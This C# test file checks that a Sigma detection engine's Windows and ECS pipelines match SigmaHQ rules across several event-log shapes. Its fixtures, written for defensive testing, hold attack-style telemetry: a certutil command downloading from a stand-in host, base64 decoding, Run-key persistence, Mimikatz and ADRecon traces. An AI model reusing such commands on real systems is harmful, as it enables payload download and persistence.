using System.Text;
using Picket.Detection.Events;
using Picket.Detection.Sigma;
using Picket.Detection.Sigma.Scan;
using Picket.Sensors.Replay.Json;

namespace Picket.Spec.Sigma.Pipelines;

/// <summary>Rules of SigmaHQ through the bundled pipelines, asked about events of others' shapes as they are replayed.</summary>
public sealed class BundledPipelineSpec
{
    private const string Process = "rules/windows/process_creation/";
    private const string Certutil = Process + "proc_creation_win_certutil_download.yml";
    private const string Whoami = Process + "proc_creation_win_whoami_parent_anomaly.yml";

    private const string Sysmon =
        """{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x.example/a a"}""";

    /// <summary>As Windows' log is rendered: what is in System and EventData is found by its own name.</summary>
    private const string Security4688 =
        """{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4688,"Channel":"Security","Computer":"pc1"},"EventData":{"SubjectUserName":"alice","SubjectDomainName":"CORP","NewProcessId":"0x1a4","NewProcessName":"C:\\Windows\\System32\\certutil.exe","ProcessId":"0x2b8","CommandLine":"certutil -urlcache -f http://x.example/a a","ParentProcessName":"C:\\Windows\\explorer.exe","MandatoryLabel":"S-1-16-12288"}}}""";

    /// <summary>As winlogbeat's module makes it of Sysmon's event.</summary>
    private const string Winlogbeat =
        """{"@timestamp":"2026-01-02T03:04:05Z","ecs":{"version":"8.0.0"},"event":{"code":"1","category":["process"],"type":["start"],"module":"sysmon"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","provider_name":"Microsoft-Windows-Sysmon","event_data":{"Company":"Microsoft Corporation"}},"process":{"executable":"C:\\Windows\\System32\\certutil.exe","command_line":"certutil -urlcache -f http://x.example/a a","pid":420,"parent":{"executable":"C:\\Windows\\explorer.exe"}}}""";

    /// <summary>As Elastic's agent reports it: no channel, nothing but the schema.</summary>
    private const string Endpoint =
        """{"event":{"category":["process"],"type":["start"],"action":"start","module":"endpoint"},"host":{"os":{"type":"windows"}},"process":{"executable":"C:\\Windows\\System32\\certutil.exe","command_line":"certutil -urlcache -f http://x.example/a a","pe":{"original_file_name":"CertUtil.exe"}}}""";

    private const string EndpointLinux =
        """{"event":{"category":["process"],"type":["start"]},"host":{"os":{"type":"linux"}},"process":{"executable":"/usr/bin/base64","command_line":"base64 -d /tmp/x"}}""";

    [Theory]
    [InlineData(Certutil, "", Sysmon, true)]
    [InlineData(Certutil, "", Security4688, false)]
    [InlineData(Certutil, "", Winlogbeat, false)]
    [InlineData(Certutil, "", Endpoint, false)]
    [InlineData(Certutil, "windows", Sysmon, true)]
    [InlineData(Certutil, "windows", Security4688, true)]
    [InlineData(Certutil, "windows", Winlogbeat, false)]
    [InlineData(Certutil, "ecs", Sysmon, true)]
    [InlineData(Certutil, "ecs", Security4688, false)]
    [InlineData(Certutil, "ecs", Winlogbeat, true)]
    [InlineData(Certutil, "ecs", Endpoint, true)]
    [InlineData(Certutil, "ecs windows", Sysmon, true)]
    [InlineData(Certutil, "ecs windows", Security4688, true)]
    [InlineData(Certutil, "ecs windows", Winlogbeat, true)]
    [InlineData(Certutil, "ecs windows", Endpoint, true)]
    [InlineData("rules/linux/process_creation/proc_creation_lnx_base64_decode.yml", "", EndpointLinux, false)]
    [InlineData("rules/linux/process_creation/proc_creation_lnx_base64_decode.yml", "ecs", EndpointLinux, true)]
    [InlineData("rules/linux/process_creation/proc_creation_lnx_base64_decode.yml", "windows", EndpointLinux, false)]
    public void A_rule_finds_an_event_of_the_shape_that_the_pipeline_is_for(string rule, string pipelines, string @event, bool found) =>
        Assert.Equal(found, Matches(Load(rule, pipelines), @event) == 1);

    [Theory]
    // Its number, its channel and what the fields say all count.
    [InlineData(Certutil, Security4688, "4688", "4689")]
    [InlineData(Certutil, Security4688, "\"Security\"", "\"Application\"")]
    [InlineData(Certutil, Security4688, "urlcache", "encode")]
    [InlineData(Certutil, Endpoint, "\"start\"],", "\"end\"],")]
    [InlineData(Certutil, Endpoint, "[\"process\"]", "[\"file\"]")]
    [InlineData(Certutil, Winlogbeat, "urlcache", "encode")]
    public void An_event_that_is_another_is_not_found(string rule, string @event, string from, string to)
    {
        var set = Load(rule, "ecs windows");
        Assert.Equal(1, Matches(set, @event));
        Assert.Contains(from, @event, StringComparison.Ordinal);

        Assert.Equal(0, Matches(set, @event.Replace(from, to, StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("registry_set", @"TargetObject|endswith: '\CurrentVersion\Run\x'", true)]
    [InlineData("registry_set", @"TargetObject: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x'", true)]
    [InlineData("registry_set", "Details: 'DWORD (0x0000001f)'", true)]
    [InlineData("registry_set", @"Image|endswith: '\reg.exe'", true)]
    [InlineData("registry_add", @"TargetObject|contains: '\Run\'", true)]
    [InlineData("registry_event", @"TargetObject|contains: '\Run\'", true)]
    [InlineData("registry_delete", @"TargetObject|contains: '\Run\'", false)]
    [InlineData("registry_set", "Details: 31", false)]
    public void A_registry_value_that_Windows_recorded_is_key_and_value_in_one(string category, string item, bool found)
    {
        const string Event = """{"Event":{"System":{"EventID":4657,"Channel":"Security"},"EventData":{"ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run","ObjectValueName":"x","OperationType":"%%1904","NewValueType":"%%1876","NewValue":"31","ProcessName":"C:\\Windows\\reg.exe"}}}""";
        var rule = $"title: t\nlogsource: {{ product: windows, category: {category} }}\ndetection:\n  s:\n    {item}\n  condition: s\n";
        var set = SigmaRuleSet.Parse(rule, "rule.yml", new SigmaLoadOptions { Pipelines = ["windows"] });
        Assert.Empty(set.Errors);
        Assert.Equal(found, Matches(set, Event) == 1);
    }

    [Fact]
    public void A_value_that_Windows_writes_otherwise_is_asked_as_it_writes_it()
    {
        const string Rule = """
            title: t
            logsource: { product: windows, category: process_creation }
            detection: { s: { Image|endswith: '\osk.exe', IntegrityLevel: High }, condition: s }
            """;
        const string Event = """{"Channel":"Security","EventID":4688,"NewProcessName":"C:\\Windows\\osk.exe","MandatoryLabel":"S-1-16-12288"}""";
        var set = Piped.Load(Rule, "windows");

        Assert.Equal(1, Matches(set, Event));
        Assert.Equal(0, Matches(set, Event.Replace("12288", "8192", StringComparison.Ordinal)));
    }

    [Fact]
    public void What_a_rule_leaves_out_is_left_out_of_other_shapes_as_well()
    {
        const string Other = """{"Channel":"Security","EventID":4688,"NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami","ParentProcessName":"C:\\x.exe"}""";
        const string Usual = """{"Channel":"Security","EventID":4688,"NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami","ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}""";
        const string EcsOther = """{"event":{"category":"process","type":"start"},"process":{"executable":"C:\\Windows\\System32\\whoami.exe","parent":{"executable":"C:\\x.exe"}}}""";
        const string EcsUsual = """{"event":{"category":"process","type":"start"},"process":{"executable":"C:\\Windows\\System32\\whoami.exe","parent":{"executable":"C:\\Windows\\System32\\cmd.exe"}}}""";
        var set = Load(Whoami, "windows ecs");

        Assert.Equal([1, 0, 1, 0], new[] { Other, Usual, EcsOther, EcsUsual }.Select(@event => Matches(set, @event)));
    }

    [Theory]
    [InlineData("rules/windows/driver_load/driver_load_win_susp_temp_use.yml",
        """{"Channel":"System","EventID":7045,"Provider_Name":"Service Control Manager","ServiceName":"x","ImagePath":"C:\\Users\\a\\AppData\\Local\\Temp\\x.sys","ServiceType":"kernel mode driver"}""",
        "kernel mode driver", "user mode service")]
    [InlineData("rules/category/antivirus/av_hacktool.yml",
        """{"Channel":"Microsoft-Windows-Windows Defender/Operational","EventID":1116,"Threat Name":"HackTool:Win32/Mimikatz.D","Path":"file:_C:\\x.exe"}""",
        "1116", "1006")]
    [InlineData("rules/windows/network_connection/net_connection_win_notepad.yml",
        """{"Channel":"Security","EventID":5156,"Application":"\\device\\harddiskvolume2\\windows\\notepad.exe","Direction":"%%14593","DestAddress":"203.0.113.1","DestPort":443}""",
        "notepad", "winword")]
    [InlineData("rules/windows/powershell/powershell_script/posh_ps_adrecon_execution.yml",
        """{"event":{"category":"process","code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":4104},"powershell":{"file":{"script_block_text":"x; Get-ADRGPO -All"}}}""",
        "Get-ADRGPO", "Get-Nothing")]
    [InlineData("rules/windows/powershell/powershell_script/posh_ps_adrecon_execution.yml",
        """{"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"x; Get-ADRGPO -All"}""",
        "Get-ADRGPO", "Get-Nothing")]
    public void Other_categories_have_their_records_too(string rule, string @event, string from, string to)
    {
        var set = Load(rule, "windows ecs");

        Assert.Equal(1, Matches(set, @event));
        Assert.Equal(0, Matches(set, @event.Replace(from, to, StringComparison.Ordinal)));
    }

    [Fact]
    public void An_alert_names_the_field_as_the_event_has_it()
    {
        var set = Load(Certutil, "windows ecs");

        Assert.Contains(("selection_img", "NewProcessName"), Explain(set, Security4688));
        Assert.Contains(("selection_img", "process.executable"), Explain(set, Winlogbeat));
        Assert.Contains(("selection_img", "Image"), Explain(set, Sysmon));
    }

    [Fact]
    public void All_rules_of_SigmaHQ_go_through_both_pipelines_and_engine_and_twin_agree_about_them()
    {
        var root = Corpora.Require("sigma-rules");
        var set = SigmaRuleSet.Load([root], new SigmaLoadOptions { Pipelines = ["ecs", "windows"] });
        Assert.True(set.Errors.Count == 0, string.Join("\n", set.Errors));
        Assert.Equal(3_780, set.Rules.Count(rule => !rule.IsCopy));
        Assert.InRange(set.Rules.Count(rule => rule.IsCopy), 3_000, 6_000);

        var engine = SigmaEngine.Build(set.Rules);
        var twin = new FullScan();
        var syntaxes = set.Rules.Select(rule => rule.Syntax).ToList();
        foreach (var @event in new[] { Sysmon, Security4688, Winlogbeat, Endpoint, EndpointLinux })
        {
            var sink = new RecordingSink();
            var batch = Read(@event);
            engine.Evaluate(batch.View(0), sink);
            var expected = twin.Matches(syntaxes, batch.View(0)).Select(index => set.Rules[index]).DistinctBy(rule => rule.Original);
            Assert.Equal(expected.Select(rule => rule.ToString()), sink.Matches.Select(rule => rule.ToString()));
            Assert.NotEmpty(sink.Matches);
        }
    }

    [Fact]
    public void Without_a_pipeline_nothing_is_another()
    {
        var root = Corpora.Require("sigma-rules");
        var plain = SigmaRuleSet.Load([Path.Combine(root, "rules/linux")]);
        var piped = SigmaRuleSet.Load([Path.Combine(root, "rules/linux")], new SigmaLoadOptions { Pipelines = ["windows"] });

        // What a pipeline is not about comes out as it went in: the linked forms are equal, atom by atom.
        Assert.Equal(plain.Rules.Select(KeyOf), piped.Rules.Select(KeyOf));
        Assert.All(plain.Rules, rule => Assert.False(rule.IsCopy));

        static string KeyOf(SigmaRule rule) => string.Join('\n', [rule.LogSource.ToString(), rule.Alert.ContentHash, .. rule.Syntax.Selections.SelectMany(selection =>
            selection.Alternatives.SelectMany(group => group.Items).Select(item => $"{selection.Name} {item.Field} {string.Join(',', item.Modifiers)} {string.Join(',', item.Values)}"))]);
    }

    private static SigmaRuleSet Load(string rule, string pipelines)
    {
        var set = SigmaRuleSet.Load([Path.Combine(Corpora.Require("sigma-rules"), rule)],
            new SigmaLoadOptions { Pipelines = pipelines.Split(' ', StringSplitOptions.RemoveEmptyEntries) });
        Assert.True(set.Errors.Count == 0, string.Join("\n", set.Errors));
        return set;
    }

    /// <summary>How many alerts the event makes; the twin must agree.</summary>
    private static int Matches(SigmaRuleSet set, string @event)
    {
        // The names of log sources are there once an engine is: records look them up.
        var engine = SigmaEngine.Build(set.Rules);
        var batch = Read(@event);
        Piped.On(set, batch);
        var sink = new RecordingSink();
        engine.Evaluate(batch.View(0), sink);
        return sink.Matches.Count;
    }

    private static IEnumerable<(string Selection, string Field)> Explain(SigmaRuleSet set, string @event)
    {
        var engine = SigmaEngine.Build(set.Rules);
        var batch = Read(@event);
        var sink = new RecordingSink();
        engine.Evaluate(batch.View(0), sink);
        return engine.Explain(Assert.Single(sink.Matches), batch.View(0)).Select(match => (match.Selection, match.Field));
    }

    private static EventBatch Read(string @event)
    {
        using var reader = new JsonRecordReader(new MemoryStream(Encoding.UTF8.GetBytes(@event)), "test", malformed => Assert.Fail(malformed.ToString()));
        var batch = new EventBatch(4, 64 * 1024);
        Assert.True(reader.Fill(batch, null));
        return batch;
    }
}
